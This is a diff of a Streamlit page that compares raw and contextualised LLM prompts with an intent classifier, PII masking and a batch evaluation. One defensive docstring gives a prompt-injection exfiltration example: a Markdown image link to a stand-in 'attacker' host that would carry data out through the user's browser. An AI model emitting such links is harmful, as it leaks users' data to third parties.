@@ -1,8 +1,12 @@
 """Prompt Arena page: an intent classifier and sentiment in front of an LLM, raw vs contextualised.
 
 Thin page: the classifier is :mod:`core.arena.classifier`, the providers,
-prompts, prices, cache and the hybrid pipeline are :mod:`core.arena`; this file
-only renders them.
+prompts, prices, cache and the hybrid pipeline are :mod:`core.arena`, the batch
+evaluation :mod:`core.arena.evaluation`, PII masking :mod:`core.privacy`; this
+file only renders them.
+
+The last evaluation's summary (:func:`core.arena.evaluation.summarise`) is kept in
+``st.session_state["arena_context_summary"]`` for the Decide report.
 """
 
 from __future__ import annotations
@@ -12,19 +16,23 @@ import json
 import os
 
 import pandas as pd
+import plotly.express as px
 import streamlit as st
 
 from core.arena.cache import ResponseCache
 from core.arena.classifier import (IntentClassifier, load_labelled_queries, sample_queries_path,
                                    stratified_subsample)
-from core.arena.hybrid import (ARMS, analyze_query, batch_summary, build_prompts, run_batch,
-                               stream_prompt)
+from core.arena.evaluation import evaluate_prompts, held_out_rows, summarise, wide_table
+from core.arena.hybrid import ARMS, analyze_query, build_prompts, example_pool, stream_prompt
 from core.arena.pricing import load_prices
 from core.arena.prompts import CONTEXTUALISED_TEMPLATE, DEFAULT_GUIDANCE, RAW_TEMPLATE, guidance_for
-from core.arena.providers import LABELS, available_providers, make_provider
+from core.arena.providers import PROVIDERS, available_providers, make_provider
+from core.arena.urgency import is_urgent_category
 from core.errors import CrossroadsError
 from core.io import LoadedTable, load_table
+from core.privacy import ComprehendPiiDetector
 from pages._shared import download_buttons, ensure_navigation, show_error, table_input
+from pages._state import keep
 
 ensure_navigation()
 
@@ -49,8 +57,9 @@ LABEL_GUESSES = ("label", "category", "intent", "topic", "class", "target")
 
 # ----------------------------------------------------------------------------- cached work
 @st.cache_data(ttl=60, show_spinner="Checking which LLM providers are available...")
-def provider_statuses(region: str, base_url: str, model_path: str):
-    """``available_providers`` for these settings (re-probed at most once a minute)."""
+def provider_statuses(region: str, base_url: str, model_path: str, registered: tuple[str, ...] = ()):
+    """``available_providers`` for these settings (re-probed at most once a minute, or when
+    the provider registry changes: ``registered`` is its list of names)."""
     return available_providers(region=region or None, base_url=base_url or None,
                                model_path=model_path or None)
 
@@ -133,10 +142,154 @@ def fmt_duration(seconds: float) -> str:
     return f"{seconds / 60:.1f} min"
 
 
+def show_answer(text: str) -> None:
+    """An LLM answer as plain text: never Markdown or HTML.
+
+    A prompt-injected answer could hold ``![x](https://attacker/?q=...)``; as
+    Markdown the user's browser would fetch that URL. As text it is shown, not loaded.
+    """
+    if text:
+        st.text(text)
+    else:
+        st.caption("(empty answer)")
+
+
+def show_answer_stream(chunks) -> str:
+    """Show streamed answer chunks as plain text as they arrive (see :func:`show_answer`); returns the text."""
+    box = st.empty()
+    text = ""
+    for chunk in chunks:
+        text += chunk
+        box.text(text)
+    if not text:
+        box.caption("(empty answer)")
+    return text
+
+
 def fmt_cost(cost) -> str:
     if cost is None:
         return "n/a"
     return "$0 (local)" if cost == 0 else f"${cost:.6f}"
+
+
+ANSWER_GUESSES = ("answer", "response", "reply", "agent_response")
+#: Session-state key of the last evaluation summary (core.arena.evaluation.summarise), read by the Decide report.
+CONTEXT_SUMMARY_KEY = "arena_context_summary"
+
+
+@st.cache_data(ttl=60, show_spinner=False)
+def comprehend_available() -> tuple[bool, str]:
+    """Whether Amazon Comprehend can be called (credentials and a region; no AWS call)."""
+    from core.sentiment.comprehend import comprehend_status
+
+    return comprehend_status(None, None)
+
+
+@st.cache_resource(show_spinner="Choosing worked examples from your table...", max_entries=4)
+def example_pool_for(fingerprint_: str, answer_col: str, _texts: list[str], _labels: list[str], _clf,
+                     _answers_by_text: dict | None):
+    """Worked examples for a base model from the user's rows (keyed on the data and the answer column)."""
+    answers = [(_answers_by_text or {}).get(t, "") for t in _texts] if _answers_by_text else None
+    return example_pool(_texts, _labels, _clf, answers=answers)
+
+
+def held_out_eval_rows(fp_: str, test_name: str, texts: list[str], labels: list[str], n: int, seed: int,
+                       held_args: dict):
+    """The held-out rows of the batch evaluation (a split, or a second file without training texts)."""
+    return held_out_rows(texts, labels, n=n, random_state=seed, **held_args)
+
+
+def _pct_ci(m: dict | None) -> str:
+    if not m or m.get("rate") is None:
+        return "n/a"
+    return f"{m['rate']:.0%} ({m['ci_low']:.0%}–{m['ci_high']:.0%})"
+
+
+def render_evaluation(run, summ: dict, prices) -> None:
+    """Show an evaluation: verdict, per-prompt measures with intervals, cost projection, rows, downloads."""
+    st.subheader(f"{summ['n_queries']} held-out queries × {summ['repeats']} repeats · {summ['model_id']}",
+                 anchor=False)
+    st.caption(f"Rows: {summ['source']}. Temperature {summ['temperature']}. {summ['n_answers']} answers, "
+               f"{summ['n_errors']} failed call(s).")
+    if run.stopped_early:
+        st.error(f"The evaluation stopped early; the answers so far are below. {run.stopped_early}",
+                 icon=":material/error:")
+    verdict = summ["verdict"]
+    box = st.success if verdict.startswith("context helped") else st.warning if verdict.startswith(
+        "context hurt") else st.info
+    box(f"**Topic adherence:** {verdict}", icon=":material/insights:")
+    ca = summ["classifier_accuracy"]
+    st.caption(f"Classifier correct on these queries: {_pct_ci(ca)}, n = {ca['n_queries']} ({ca['ci_method']} interval).")
+    measures = {}
+    for arm in ARMS:
+        m = summ["arms"][arm]
+        ta, cons, cp, tok, lat, cost = (m["topic_adherence"], m["consistency"], m["copy_rate"], m["tokens"],
+                                        m["latency_ms"], m["cost_usd"])
+        measures[ARM_TITLES[arm]] = {
+            "Topic adherence (95% CI)": _pct_ci(ta) + f" · {ta['n_queries']} queries, {ta['n_answers']} answers",
+            "Consistency: TF-IDF cosine (95% CI)": (f"{cons['mean_cosine']:.2f} ({cons['ci_low']:.2f}–"
+                                                    f"{cons['ci_high']:.2f})" if cons else "needs 2+ repeats"),
+            "Length spread (sd, characters)": f"{cons['length_sd_chars']:.1f}" if cons else "needs 2+ repeats",
+            "Copies a worked example (95% CI)": _pct_ci(cp),
+            "Tokens per answer (in / out)": (f"{tok['input_mean']:,.0f} / {tok['output_mean']:,.1f}"
+                                             if tok["input_mean"] is not None else "n/a"),
+            "Latency p50 / p95": (f"{lat['p50']:,.0f} / {lat['p95']:,.0f} ms ({lat['n_measured']} calls)"
+                                  if lat["p50"] is not None else "cached answers only"),
+            "Cost (all answers)": fmt_cost(cost["total"]) + (f" · {fmt_cost(cost['per_query'])} per query"
+                                                             if cost["total"] else ""),
+        }
+        if m["judge"]:
+            measures[ARM_TITLES[arm]]["LLM judge: helpfulness 1-5"] = f"{m['judge']['mean']:.2f} (n = {m['judge']['n']})"
+    st.dataframe(pd.DataFrame(measures), width="stretch")
+    for key in ("consistency", "copy_rate"):
+        d = summ["difference"].get(key)
+        if d:
+            st.caption(d["verdict"][:1].upper() + d["verdict"][1:])
+    if summ.get("judge"):
+        st.caption(summ["judge"]["label"] + ".")
+    rates = pd.DataFrame([{"prompt": ARM_TITLES[a], "rate": summ["arms"][a]["topic_adherence"]["rate"] or 0.0,
+                           "low": summ["arms"][a]["topic_adherence"]["ci_low"] or 0.0,
+                           "high": summ["arms"][a]["topic_adherence"]["ci_high"] or 0.0} for a in ARMS])
+    fig = px.bar(rates, x="rate", y="prompt", orientation="h", range_x=[0, 1], text=rates["rate"].map("{:.0%}".format),
+                 error_x=rates["high"] - rates["rate"], error_x_minus=rates["rate"] - rates["low"],
+                 title="Topic adherence with 95% interval")
+    fig.update_traces(textposition="inside", insidetextanchor="start")
+    fig.update_layout(height=220, margin=dict(l=10, r=10, t=40, b=10), xaxis_tickformat=".0%", yaxis_title=None)
+    st.plotly_chart(fig, key="arena_eval_chart")
+    proj = summ.get("cost_projection")
+    if proj:
+        with st.expander("What these answers would cost on Claude (Amazon Bedrock)", icon=":material/payments:"):
+            rows = [{"model": r["model"], "price tier": r["tier"],
+                     "raw: USD per 1,000 answers": round(r["usd_per_1000_queries"], 4),
+                     "contextualised: USD per 1,000 answers": round(c["usd_per_1000_queries"], 4)}
+                    for r, c in zip(proj["arms"]["raw"], proj["arms"]["contextualised"])]
+            st.dataframe(pd.DataFrame(rows), hide_index=True, width="stretch")
+            st.caption(f"Prices from {proj['source']}, retrieved {proj['retrieved']}. {proj['note']}")
+    st.markdown("**Per query** (first answer of each prompt; the download has every repeat)")
+    wide = wide_table(run.rows)
+    # both answers right after the query, so neither sits off-screen; counts and labels after them
+    order = ["row", "query", "raw answer", "contextualised answer", "raw on topic", "contextualised on topic",
+             "raw copied", "contextualised copied", "true label", "predicted", "correct", "error"]
+    st.dataframe(wide[[c for c in order if c in wide.columns]], hide_index=True, width="stretch",
+                 height=min(38 * (len(wide) + 1), 600),
+                 column_config={
+                     "row": st.column_config.NumberColumn("row", width=40),
+                     "query": st.column_config.TextColumn("query", width="medium"),
+                     "raw answer": st.column_config.TextColumn("raw answer", width="medium"),
+                     "contextualised answer": st.column_config.TextColumn("contextualised answer", width="medium"),
+                     "raw on topic": st.column_config.TextColumn("raw on topic", width="small",
+                                                                 help="Answers the classifier puts in the true category"),
+                     "contextualised on topic": st.column_config.TextColumn("ctx on topic", width="small"),
+                     "raw copied": st.column_config.TextColumn("raw copied", width="small",
+                                                               help="Answers that copy a worked example"),
+                     "contextualised copied": st.column_config.TextColumn("ctx copied", width="small"),
+                     "true label": st.column_config.TextColumn("true label", width="medium"),
+                     "predicted": st.column_config.TextColumn("predicted", width="medium"),
+                     "correct": st.column_config.CheckboxColumn("correct", width="small"),
+                 })
+    # JSON: the summary's fields at the top (what the Decide report reads), every answer under "rows"
+    download_buttons(run.rows, "prompt_arena_evaluation", key="arena_eval_dl",
+                     json_obj={**summ, "rows": json.loads(run.rows.to_json(orient="records", force_ascii=False))})
 
 
 # ----------------------------------------------------------------------------- page
@@ -164,22 +317,22 @@ with st.expander("Provider settings", icon=":material/settings:"):
     if st.button("Check providers again", icon=":material/refresh:", key="arena_recheck"):
         provider_statuses.clear()
 
-statuses = provider_statuses(region, base_url, model_path)
+statuses = provider_statuses(region, base_url, model_path, tuple(PROVIDERS))
 available = [s for s in statuses if s.available]
 unavailable = [s for s in statuses if not s.available]
 if available:
     for s in available:
-        st.success(f"**{s.label or LABELS[s.name]}**  \n{s.reason}", icon=":material/check_circle:")
+        st.success(f"**{s.label or PROVIDERS[s.name].label}**  \n{s.reason}", icon=":material/check_circle:")
     if unavailable:
         # one neutral, folded line: the user has a working provider, the others are optional
-        with st.expander("Not available here: " + ", ".join(s.label or LABELS[s.name] for s in unavailable)
+        with st.expander("Not available here: " + ", ".join(s.label or PROVIDERS[s.name].label for s in unavailable)
                          + " (optional; expand to see why)", icon=":material/info:"):
-            st.markdown("\n".join(f"- **{s.label or LABELS[s.name]}**: {s.reason}" for s in unavailable))
+            st.markdown("\n".join(f"- **{s.label or PROVIDERS[s.name].label}**: {s.reason}" for s in unavailable))
 else:
     status_cols = st.columns(len(statuses))
     for col, s in zip(status_cols, statuses):
         with col:
-            st.warning(f"**{s.label or LABELS[s.name]}** — not available  \n{s.reason}", icon=":material/block:")
+            st.warning(f"**{s.label or PROVIDERS[s.name].label}** — not available  \n{s.reason}", icon=":material/block:")
 
 provider = None
 cache = None
@@ -192,19 +345,21 @@ else:
     names = [s.name for s in available]
     c1, c2, c3, c4 = st.columns([2, 3, 1, 1])
     prov_name = c1.selectbox("Provider", names, index=0, key="arena_provider",
-                             format_func=lambda n: LABELS[n] + (" · auto" if n == names[0] else ""),
-                             help="Auto-picked in this order when available: Bedrock, a local server, "
-                                  "the embedded model.")
+                             format_func=lambda n: PROVIDERS[n].label + (" · auto" if n == names[0] else ""),
+                             help="Auto-picked in this order when available: "
+                                  + ", ".join(spec.label for spec in PROVIDERS.values()) + ".")
     status = next(s for s in available if s.name == prov_name)
     model = c2.selectbox("Model", status.models or [""], index=0, key=f"arena_model_{prov_name}")
-    max_tokens = int(c3.number_input("Max output tokens", 8, 4096, 160 if prov_name == "local" else 512, 8,
-                                     key="arena_max_tokens"))
-    temperature = float(c4.number_input("Temperature", 0.0, 1.0, 0.2, 0.1, key="arena_temperature",
-                                        help="Not sent to Bedrock models that do not accept it."))
     try:
-        provider = get_provider(prov_name, model if prov_name != "local" else "", region, base_url, model_path)
+        provider = get_provider(prov_name, model, region, base_url, model_path)
     except Exception as exc:  # noqa: BLE001 - show_error words CrossroadsError and unexpected errors alike
         show_error(exc, what="Preparing the provider")
+    # a tiny base model is slow and rambles: a short default answer length
+    max_tokens = int(c3.number_input("Max output tokens", 8, 4096,
+                                     160 if getattr(provider, "is_base_model", False) else 512, 8,
+                                     key="arena_max_tokens"))
+    temperature = float(c4.number_input("Temperature", 0.0, 1.0, 0.2, 0.1, key="arena_temperature",
+                                        help="Not sent to models that do not accept it."))
     if provider is not None:
         if getattr(provider, "is_base_model", False):
             st.info(f"**This is a tiny base model.** {provider.description}", icon=":material/info:")
@@ -220,17 +375,34 @@ st.header("2 · Intent classifier", anchor=False)
 st.caption("TF-IDF word unigrams and character 1-3-grams into logistic regression (scikit-learn). Japanese words "
            "come from janome (a dictionary tokenizer), chosen by measuring it against SudachiPy, fugashi and "
            "character n-grams alone on Japanese data: see benchmarks/ja_tokenizer.py.")
+keep("arena_train_source", default="Use a sample", options=["Use a sample", "Upload a file"])
 table = table_input("arena_train", samples={"Support queries (EN/JA, 400 rows, 8 categories)": load_sample})
+if table is not None:
+    st.session_state["arena_train_table"] = table
+elif st.session_state.get("arena_train_source") == "Upload a file" and st.session_state.get("arena_train_table"):
+    # an uploaded file is not kept by the uploader across pages: keep using the one read before
+    table = st.session_state["arena_train_table"]
+    st.caption(f"Still using **{table.name}** read earlier ({len(table.frame):,} rows); upload a file to replace it.")
 if table is None:
     st.stop()
 cols = [str(c) for c in table.frame.columns]
 if len(cols) < 2:
     st.error("The table needs at least two columns: a text column and a label column.", icon=":material/error:")
     st.stop()
-c1, c2, c3 = st.columns([2, 2, 1])
-text_col = c1.selectbox("Text column", cols, index=guess(cols, TEXT_GUESSES, 0), key="arena_text_col")
-label_col = c2.selectbox("Label column (category)", cols, index=guess(cols, LABEL_GUESSES, 1), key="arena_label_col")
-folds = int(c3.number_input("CV folds", 2, 10, 5, key="arena_folds"))
+c1, c2, c3, c4 = st.columns([2, 2, 2, 1])
+text_col = c1.selectbox("Text column", cols, key=keep("arena_text_col", default=cols[guess(cols, TEXT_GUESSES, 0)],
+                                                      options=cols))
+label_col = c2.selectbox("Label column (category)", cols,
+                         key=keep("arena_label_col", default=cols[guess(cols, LABEL_GUESSES, 1)], options=cols))
+answer_opts = ["(none)"] + [c for c in cols if c not in (text_col, label_col)]
+answer_col = c3.selectbox("Answer column (optional)", answer_opts,
+                          key=keep("arena_answer_col", default=next((c for c in answer_opts
+                                                                     if c.lower() in ANSWER_GUESSES), "(none)"),
+                                   options=answer_opts),
+                          help="Answers written for the queries, if your table has them: a small base model then "
+                               "sees your own answers as worked examples. Without it, the worked examples are "
+                               "your queries with a neutral, format-only answer.")
+folds = int(c4.number_input("CV folds", 2, 10, key=keep("arena_folds", default=5)))
 try:
     data = load_labelled_queries(table, text_col, label_col)
     counts = pd.Series(data.labels).value_counts()
@@ -241,9 +413,9 @@ try:
         st.stop()
     single = sorted(counts[counts < 2].index)
     if single and n_classes - len(single) >= 2:
-        keep = [lab not in set(single) for lab in data.labels]
-        data.texts = [t for t, k_ in zip(data.texts, keep) if k_]
-        data.labels = [lab for lab, k_ in zip(data.labels, keep) if k_]
+        keep_rows = [lab not in set(single) for lab in data.labels]
+        data.texts = [t for t, k_ in zip(data.texts, keep_rows) if k_]
+        data.labels = [lab for lab, k_ in zip(data.labels, keep_rows) if k_]
         n_classes -= len(single)
         st.warning(f"{len(single)} categor{'y has' if len(single) == 1 else 'ies have'} a single example and "
                    f"{'was' if len(single) == 1 else 'were'} left out (a classifier cannot learn or be "
@@ -256,6 +428,9 @@ try:
 except Exception as exc:  # noqa: BLE001 - show_error words CrossroadsError and unexpected errors alike
     show_error(exc, what="Training the classifier")
     st.stop()
+answers_by_text = None
+if answer_col != "(none)":
+    answers_by_text = dict(zip(table.frame[text_col].astype(str), table.frame[answer_col].fillna("").astype(str)))
 m1, m2, m3, m4 = st.columns(4)
 m1.metric("Training rows", f"{len(data):,}", help=f"{data.n_dropped} row(s) without text or label left out."
           if data.n_dropped else None)
@@ -272,21 +447,44 @@ if any(notes):
 st.header("3 · Prompts", anchor=False)
 with st.expander("Edit the prompt templates", icon=":material/edit_note:"):
     st.caption("Variables in braces are filled in for each query: {query} (always delimited as <query>…</query> and "
-               "treated as data), {category}, {confidence}, {alternatives}, {sentiment}, {urgency}, {guidance}, "
-               "{language}. A line whose variables are all empty is dropped.")
+               "treated as data), {category} (in readable words; {category_key} is the raw label), {confidence}, "
+               "{alternatives}, {sentiment}, {urgency}, {guidance}, {language}. A line whose variables are all "
+               "empty is dropped.")
     t1, t2 = st.columns(2)
-    raw_sys = t1.text_area("Raw · system", RAW_TEMPLATE.system, height=180, key="arena_raw_sys")
-    raw_user = t1.text_area("Raw · user", RAW_TEMPLATE.user, height=80, key="arena_raw_user")
-    ctx_sys = t2.text_area("Contextualised · system", CONTEXTUALISED_TEMPLATE.system, height=180, key="arena_ctx_sys")
-    ctx_user = t2.text_area("Contextualised · user", CONTEXTUALISED_TEMPLATE.user, height=260, key="arena_ctx_user")
+    raw_sys = t1.text_area("Raw · system", height=180, key=keep("arena_raw_sys", default=RAW_TEMPLATE.system))
+    raw_user = t1.text_area("Raw · user", height=80, key=keep("arena_raw_user", default=RAW_TEMPLATE.user))
+    ctx_sys = t2.text_area("Contextualised · system", height=180,
+                           key=keep("arena_ctx_sys", default=CONTEXTUALISED_TEMPLATE.system))
+    ctx_user = t2.text_area("Contextualised · user", height=260,
+                            key=keep("arena_ctx_user", default=CONTEXTUALISED_TEMPLATE.user))
     o1, o2 = st.columns(2)
-    include_alts = o1.checkbox("Include the top-k alternatives", True, key="arena_alts")
-    include_guidance = o2.checkbox("Include a guidance line for the category", True, key="arena_guidance")
+    include_alts = o1.checkbox("Include the top-k alternatives", key=keep("arena_alts", default=True))
+    include_guidance = o2.checkbox("Include a guidance line for the category", key=keep("arena_guidance", default=True))
     guidance_df = st.data_editor(
         pd.DataFrame({"category": sorted(set(data.labels))[:100]}).assign(
             guidance=lambda d: d["category"].map(lambda c: guidance_for(c, DEFAULT_GUIDANCE))),
         key=f"arena_guidance_table_{fp[:8]}", hide_index=True, width="stretch", disabled=["category"])
 guidance = dict(zip(guidance_df["category"], guidance_df["guidance"].fillna("")))
+label_set = sorted(set(data.labels))
+u1, u2 = st.columns([3, 2])
+urgent_categories = u1.multiselect(
+    "Urgent categories", label_set,
+    key=keep(f"arena_urgent_{fp[:8]}", default=[c for c in label_set if is_urgent_category(c)], options=label_set),
+    help="A query in one of these categories gets an urgency point for what is at stake (money or security). "
+         "Pre-filled with the categories whose names say so (charged twice, compromised, stolen, fraud...).")
+with u2:
+    pii_default = provider is not None and not provider.is_local()
+    mask_on = st.toggle("Mask personal data before sending", key=keep(f"arena_mask_pii_{prov_name or 'none'}",
+                                                                      default=pii_default),
+                        help="Emails, phone numbers, card numbers (Luhn-checked), IBANs, My Numbers and Japanese "
+                             "postal codes are replaced by [EMAIL], [CARD_NUMBER]... before the query goes into "
+                             "the prompts. On by default when the model runs outside this machine.")
+    comprehend_ok, comprehend_reason = comprehend_available()
+    use_comprehend = st.checkbox("Also use Amazon Comprehend (English, Spanish)", disabled=not (mask_on and comprehend_ok),
+                                 key=keep("arena_comprehend_pii", default=False),
+                                 help=("Adds names, addresses and other types found by Comprehend DetectPiiEntities."
+                                       if comprehend_ok else f"Not available: {comprehend_reason}"))
+pii_detector = ComprehendPiiDetector(region=region or None) if (mask_on and use_comprehend and comprehend_ok) else None
 try:
     raw_tpl = RAW_TEMPLATE.with_text(system=raw_sys, user=raw_user)
     ctx_tpl = CONTEXTUALISED_TEMPLATE.with_text(system=ctx_sys, user=ctx_user)
@@ -295,23 +493,44 @@ except CrossroadsError as exc:
     st.stop()
 prompt_options = dict(raw_template=raw_tpl, contextualised_template=ctx_tpl, guidance=guidance,
                       include_alternatives=include_alts, include_guidance=include_guidance)
+analysis_options = dict(mask_pii=mask_on, pii_detector=pii_detector, urgent_categories=urgent_categories)
+is_base = bool(getattr(provider, "is_base_model", False))
+pool = (example_pool_for(fp, answer_col, data.texts, data.labels, clf, answers_by_text) if is_base else None)
+
+
+def show_pii(masked) -> None:
+    """What was masked, shown next to the analysis (types and partly hidden values, never the values)."""
+    if masked is None:
+        return
+    if not masked.entities:
+        st.caption("Personal data: nothing to mask.")
+        return
+    st.warning(f"**Personal data masked before sending: {masked.summary()}.** The prompts below carry the masks.",
+               icon=":material/shield_lock:")
+    st.dataframe(pd.DataFrame([{"type": e.type, "value (partly hidden)": e.preview, "sent as": e.mask,
+                                "found by": e.source} for e in masked.entities]), hide_index=True, width="content")
+    for note in masked.notes:
+        st.caption(note)
+
 
 # --- 4. single query ---------------------------------------------------------------------
 st.header("4 · Ask one query", anchor=False)
-example = st.pills("Examples", list(EXAMPLES), key="arena_example", selection_mode="single")
+example = st.pills("Examples", list(EXAMPLES), key=keep("arena_example", options=list(EXAMPLES)),
+                   selection_mode="single")
 if example and st.session_state.get("arena_last_example") != example:
     st.session_state["arena_query"] = EXAMPLES[example]
     st.session_state["arena_last_example"] = example
-query = st.text_area("Customer query (English or Japanese)", key="arena_query", height=90,
+query = st.text_area("Customer query (English or Japanese)", key=keep("arena_query", default=""), height=90,
                      placeholder="Type a customer message, or pick an example above.")
-k = int(st.slider("Top-k categories", 1, min(5, n_classes), min(3, n_classes), key="arena_k"))
+k = int(st.slider("Top-k categories", 1, min(5, n_classes), key=keep("arena_k", default=min(3, n_classes))))
 
 if query.strip():
     try:
-        analysis = analyze_query(query, clf, k=k)
+        analysis = analyze_query(query, clf, k=k, **analysis_options)
     except Exception as exc:  # noqa: BLE001 - CrossroadsError or unexpected: shown, never a traceback
         show_error(exc, what="Classifying the query")
         st.stop()
+    show_pii(analysis.pii)
     a1, a2 = st.columns([3, 2])
     with a1:
         st.markdown("**Classifier top-k** (probabilities)")
@@ -322,10 +541,12 @@ if query.strip():
         s1, s2 = st.columns(2)
         s1.metric("Sentiment", analysis.sentiment.title(),
                   help=", ".join(f"{kk} {v:.2f}" for kk, v in analysis.sentiment_score.items()) or None)
-        s2.metric("Urgency", analysis.urgency)
+        s2.metric("Urgency", analysis.urgency, help="Sentiment, urgency cues (至急, ASAP, still not...) and what is at "
+                                                     "stake (a double charge, a stolen card...): core/arena/urgency.py")
+        st.caption(f"**Why:** {analysis.urgency_reason}" if analysis.urgency_reason else "")
         st.caption(f"Language: {analysis.language_code}. " + " ".join(analysis.notes))
     try:
-        prompts = build_prompts(analysis, **prompt_options, few_shot=getattr(provider, "is_base_model", False))
+        prompts = build_prompts(analysis, **prompt_options, few_shot=is_base, examples=pool)
     except CrossroadsError as exc:
         show_error(exc)
         st.stop()
@@ -346,21 +567,29 @@ if query.strip():
                         stream = stream_prompt(provider, prompts[arm], max_tokens=max_tokens,
                                                temperature=temperature, cache=cache, prices=prices)
                         with st.container(border=True):
-                            st.write_stream(stream)
+                            show_answer_stream(stream)
                         results[arm] = stream.result
                     else:
                         with st.container(border=True):
-                            st.markdown(results[arm].response.text or "_(empty answer)_")
+                            show_answer(results[arm].response.text)
                 except Exception as exc:  # noqa: BLE001 - show_error words CrossroadsError and unexpected errors alike
                     show_error(exc, what="The LLM call")
                     continue
                 res = results[arm]
                 r = res.response
+                if res.copy is not None:
+                    st.warning(f"**Copied answer.** {res.copy.describe()} The model pasted a worked example "
+                               "instead of answering this query.", icon=":material/content_copy:")
                 x1, x2 = st.columns(2)
                 x1.metric("Input tokens", r.input_tokens if r.input_tokens is not None else "n/a")
                 x2.metric("Output tokens", r.output_tokens if r.output_tokens is not None else "n/a")
                 x3, x4 = st.columns(2)
-                x3.metric("Latency", f"{r.latency_ms:,.0f} ms", help="Wall-clock time of the call on this machine.")
+                if res.measured_latency_ms is None:
+                    x3.metric("Latency", "cached", help=f"No call was made this time; the original call took "
+                                                        f"{r.latency_ms:,.0f} ms.")
+                else:
+                    x3.metric("Latency", f"{res.measured_latency_ms:,.0f} ms",
+                              help="Wall-clock time of the call on this machine.")
                 x4.metric("Cost", fmt_cost(res.cost_usd), help=f"USD, from per-model prices ({prices.source}).")
                 st.caption(f"Model {r.model_id} · stop reason {r.stop_reason}"
                            + (" · **cached answer: nothing charged this time**" if r.cached else ""))
@@ -384,68 +613,100 @@ else:
 st.caption(f"Costs: USD per 1M tokens from {prices.source} (copied {prices.retrieved}; edit "
            "core/arena/llm_prices.json or point CROSSROADS_LLM_PRICES at your own copy). Local models cost $0.")
 
-# --- 5. batch ------------------------------------------------------------------------------
-st.header("5 · Batch mode", anchor=False)
-st.caption("Run N queries through both prompts and compare them in a table. Queries are drawn at random "
-           "(fixed seed) from the chosen table; the classifier above is used as is.")
-batch_source = st.radio("Queries from", ["The training table", "Another file"], horizontal=True,
-                        key="arena_batch_source")
-batch_texts: list[str] = []
-if batch_source == "The training table":
-    batch_texts = data.texts
-else:
-    other = table_input("arena_batch")
-    if other is not None:
-        ocols = [str(c) for c in other.frame.columns]
-        bcol = st.selectbox("Text column", ocols, index=guess(ocols, TEXT_GUESSES, 0), key="arena_batch_col")
-        batch_texts = [str(v) for v in other.frame[bcol].dropna().tolist() if str(v).strip()]
-if batch_texts and provider is None:
-    st.info("Batch mode needs an LLM provider (see 1).", icon=":material/info:")
-elif batch_texts:
-    b1, b2 = st.columns([1, 3])
-    n = int(b1.number_input("Number of queries (N)", 1, min(500, len(batch_texts)), min(5, len(batch_texts)),
-                            key="arena_batch_n"))
-    est_calls = 2 * n
-    seconds = estimated_batch_seconds(n, measured_latencies_ms())
-    eta = (f" Estimated time: about {fmt_duration(seconds)} (an estimate from the latency measured on this "
-           "machine so far; answers vary in length, cached ones are instant)." if seconds is not None else
-           " Time estimate: ask one query above first, so its latency can be measured.")
-    b2.caption(f"{est_calls} LLM calls with {provider.model_id} (max {max_tokens} output tokens each). "
-               "Cached answers are reused and cost nothing." + eta)
-    if st.button(f"Run {n} queries", icon=":material/playlist_play:", key="arena_batch_go"):
-        picked = pd.Series(batch_texts).sample(n=n, random_state=0).tolist() if n < len(batch_texts) else batch_texts
-        bar = st.progress(0.0, text=f"0 / {n} queries")
+# --- 5. batch evaluation ---------------------------------------------------------------------
+st.header("5 · Does context help? Batch evaluation", anchor=False)
+st.caption("Held-out labelled queries (never rows the classifier trained on) are answered with both prompts, "
+           "several times each. Per prompt: **topic adherence** (the intent classifier run on each answer: does it "
+           "land on the query's true category?), **consistency** (similarity of the repeated answers), **copies** of "
+           "worked examples, tokens, latency and cost. The numbers also go to the Decide report.")
+EVAL_SOURCES = ["A held-out split of the training table", "A second labelled file"]
+source = st.radio("Held-out rows from", EVAL_SOURCES, horizontal=True,
+                  key=keep("arena_eval_source", default=EVAL_SOURCES[0], options=EVAL_SOURCES))
+held = None
+try:
+    if source == EVAL_SOURCES[0]:
+        share = st.slider("Share held out (stratified)", 0.05, 0.5, step=0.05, key=keep("arena_eval_share", default=0.2),
+                          help="The classifier used for the evaluation is trained on the other rows only.")
+        held_args = dict(test=None, holdout=float(share))
+    else:
+        other = table_input("arena_eval")
+        if other is not None:
+            st.session_state["arena_eval_table"] = other
+        elif st.session_state.get("arena_eval_table") is not None:
+            other = st.session_state["arena_eval_table"]
+            st.caption(f"Still using **{other.name}** read earlier; upload a file to replace it.")
+        held_args = None
+        if other is not None:
+            ocols = [str(c) for c in other.frame.columns]
+            e1, e2 = st.columns(2)
+            etext = e1.selectbox("Text column", ocols, key=keep("arena_eval_text",
+                                                                default=text_col if text_col in ocols else
+                                                                ocols[guess(ocols, TEXT_GUESSES, 0)], options=ocols))
+            elabel = e2.selectbox("Label column", ocols, key=keep("arena_eval_label",
+                                                                  default=label_col if label_col in ocols else
+                                                                  ocols[guess(ocols, LABEL_GUESSES, 1)], options=ocols))
+            test_data = load_labelled_queries(other, etext, elabel)
+            held_args = dict(test=(test_data.texts, test_data.labels), test_name=other.name)
+    if held_args is not None:
+        b1, b2, b3, b4 = st.columns(4)
+        n_eval = int(b1.number_input("Queries (N)", 1, 500, key=keep("arena_eval_n", default=10)))
+        repeats = int(b2.number_input("Repeats per query (m)", 1, 10, key=keep("arena_eval_m", default=3),
+                                      help="Each query is answered m times per prompt to measure consistency."))
+        eval_temp = float(b3.number_input("Temperature", 0.05, 1.0, step=0.05, key=keep("arena_eval_temp", default=0.7),
+                                          help="Above 0, so repeated answers can differ."))
+        seed = int(b4.number_input("Seed", 0, 10_000, key=keep("arena_eval_seed", default=0),
+                                   help="Of the split and of the sample of queries."))
+        judge = st.checkbox("Also ask the same model to rate each answer 1-5 (LLM judge)", key=keep("arena_eval_judge",
+                                                                                                  default=False),
+                            help="One more call per answer. Labelled as an LLM judge; a model judging its own "
+                                 "answers is biased, so it is never the only number.")
+        held = held_out_eval_rows(fp, repr(held_args.get("test_name")), data.texts, data.labels, n_eval, seed,
+                                  held_args)
+except Exception as exc:  # noqa: BLE001 - shown, never a traceback
+    show_error(exc, what="Choosing the held-out rows")
+    held = None
+
+if held is not None:
+    for note in held.notes:
+        st.caption(note)
+    calls = len(held.texts) * len(ARMS) * repeats * (2 if judge else 1)
+    seconds = estimated_batch_seconds(calls / 2, measured_latencies_ms())
+    st.caption(f"{len(held.texts)} queries from {held.source}: {calls} LLM calls"
+               + (f" with {provider.model_id} (max {max_tokens} output tokens each)" if provider is not None else "")
+               + ". Cached answers are reused and cost nothing."
+               + (f" Estimated time: about {fmt_duration(seconds)} (from the latency measured so far)."
+                  if seconds is not None else " Ask one query above first to get a time estimate."))
+    if provider is None:
+        st.info("The evaluation needs an LLM provider (see 1).", icon=":material/info:")
